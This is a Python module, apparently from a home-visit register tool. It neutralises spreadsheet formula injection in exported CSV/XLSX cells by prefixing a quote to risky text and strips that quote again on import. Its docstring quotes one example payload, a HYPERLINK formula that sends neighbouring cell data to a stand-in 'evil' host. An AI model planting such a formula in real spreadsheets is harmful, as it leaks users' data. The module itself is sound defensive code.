"""Spreadsheet cells that cannot run: the one rule for every file a user may open in Excel.

Registers are typed by hand and by other systems; a name, an address or an id that begins with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is taken by Excel, WPS and
LibreOffice for a formula when the file is opened (``=HYPERLINK("http://evil/?"&A1, "click")``
sends the neighbouring cells away). Every writer of a CSV or XLSX file passes its text cells
through :func:`neutralise_cell`, which puts a single quote in front (OWASP's rule), and every
reader of the project's own files passes them through :func:`restore_cell`, which takes it
away again, so ``homevisit check`` and ``import -> export -> import`` see the values as written.
Numbers are written as numbers and left alone: only text is neutralised.

A text that already starts with quotes before such a character gets one more, so restoring is
exact for every text (``'=x`` is written ``''=x`` and read back ``'=x``).
"""

from __future__ import annotations

import re
from typing import Final, TypeVar

__all__ = ["FORMULA_STARTS", "neutralise_cell", "restore_cell"]

FORMULA_STARTS: Final = "=+-@\t\r"
"""The characters a spreadsheet may read as the start of a formula (OWASP CSV injection)."""

_NEUTRALISED: Final = re.compile(r"'*[=+\-@\t\r]")

Cell = TypeVar("Cell")


def neutralise_cell(value: Cell) -> Cell | str:
    """``value`` made safe for a spreadsheet: a text that could start a formula gets a quote.

    Anything but a ``str`` (a number, a date, ``None``) is returned as it is.
    """
    if isinstance(value, str) and _NEUTRALISED.match(value):
        return "'" + value
    return value


def restore_cell(text: str) -> str:
    """The text :func:`neutralise_cell` was given, from what it made of it."""
    return text[1:] if text.startswith("'") and _NEUTRALISED.match(text, 1) else text
